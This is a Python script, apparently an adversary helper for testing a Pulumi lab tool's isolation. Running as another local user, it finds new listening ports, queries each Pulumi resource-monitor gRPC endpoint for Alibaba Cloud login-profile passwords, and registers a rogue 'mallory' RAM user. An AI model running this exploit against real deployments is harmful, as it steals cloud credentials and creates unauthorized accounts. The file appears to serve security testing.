"""Another user of this machine: looks for ports that listen, and asks each for passwords and resources.

::

    python intruder.py UID CLASS    until its input ends; then prints what it got, as JSON
"""

import json
import os
import sys
import threading
from pathlib import Path

LISTENING = "0A"
SIGN_IN = (
    "urn:pulumi:{stack}::labstacks::labstacks:index:BridgingLab$labstacks:index:SeatIdentity"
    "$alicloud:ram/loginProfile:LoginProfile::{seat}-identity-login-profile"
)


def ports() -> set[int]:
    """The TCP ports on which anybody listens, as every user may know them."""
    rows = (line.split() for line in Path("/proc/self/net/tcp").read_text().splitlines()[1:])
    return {int(row[1].rpartition(":")[2], 16) for row in rows if row[3] == LISTENING}


def main() -> None:
    user, name = int(sys.argv[1]), sys.argv[2]
    before = ports()
    import grpc
    from google.protobuf import struct_pb2
    from pulumi.runtime.proto import resource_pb2, resource_pb2_grpc

    os.setgid(user)
    os.setuid(user)
    ended = threading.Event()
    threading.Thread(target=lambda: (sys.stdin.read(), ended.set()), daemon=True).start()
    got: dict[str, set[str]] = {"ports": set(), "passwords": set(), "resources": set()}
    sys.stdout.write("ready\n")
    sys.stdout.flush()
    while not ended.wait(0.02):
        for port in ports() - before:
            got["ports"].add(str(port))
            with grpc.insecure_channel(f"127.0.0.1:{port}") as channel:
                monitor = resource_pb2_grpc.ResourceMonitorStub(channel)
                for seat in ("s01", "s02"):
                    args = struct_pb2.Struct()
                    args["urn"] = SIGN_IN.format(stack=f"{name}-{seat}", seat=seat)
                    invoke = resource_pb2.ResourceInvokeRequest(
                        tok="pulumi:pulumi:getResource", args=args, acceptResources=True
                    )
                    user_of = struct_pb2.Struct()
                    user_of["name"] = f"mallory-{port}"
                    create = resource_pb2.RegisterResourceRequest(
                        type="alicloud:ram/user:User", name="mallory", custom=True, object=user_of
                    )
                    try:
                        answer = monitor.Invoke(invoke, timeout=1)
                        if "password" in str(answer):
                            got["passwords"].add(seat)
                        if monitor.RegisterResource(create, timeout=5).id:
                            got["resources"].add(f"mallory-{port}")
                    except grpc.RpcError:
                        continue
    sys.stdout.write(json.dumps({what: sorted(found) for what, found in got.items()}))


if __name__ == "__main__":
    main()
